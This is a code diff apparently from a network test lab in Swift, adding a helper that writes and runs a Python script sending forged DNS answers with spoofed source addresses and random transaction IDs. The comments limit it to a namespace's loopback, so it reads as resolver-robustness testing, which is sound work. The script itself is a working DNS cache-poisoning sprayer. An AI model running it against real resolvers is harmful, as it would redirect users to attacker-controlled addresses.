@@ -198,3 +198,29 @@ extension HXLab {
         return ProbeReport(status: r.status, stderr: r.stderr, raw: r.stdout, report: o)
     }
 }
+
+// MARK: - A spraying sender (issue 20 item 10)
+
+extension HXLab {
+    /// python3: `count` DNS responses for `name` A with random ids, sent with a raw socket from
+    /// SRC:53 to DST:PORT (all inside the services namespace's loopback).
+    static let sprayScript = #"""
+    import random, socket, struct, sys
+    src, dst, port, name, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00\x00\x01\x00\x01"
+    for i in range(count):
+        dns = struct.pack("!HHHHHH", random.randrange(65536), 0x8180, 1, 1, 0, 0) + q + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04" + bytes([203, 0, 113, 66])
+        udp = struct.pack("!HHHH", 53, port, 8 + len(dns), 0) + dns
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 250, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
+        s.sendto(ip + udp, (dst, 0))
+    print("sent", count, flush=True)
+    """#
+
+    func spray(from src: String, to dst: String, port: Int, name: String, count: Int) throws {
+        guard let python = tools.python3 else { throw ProbeLabTools.skip("python3 is needed for the spraying sender") }
+        let script = file("spray.py")
+        try Self.sprayScript.write(to: script, atomically: true, encoding: .utf8)
+        try mustExec(servicesNS, [python, script.path, src, dst, String(port), name, String(count)], timeout: 30)
+    }
+}
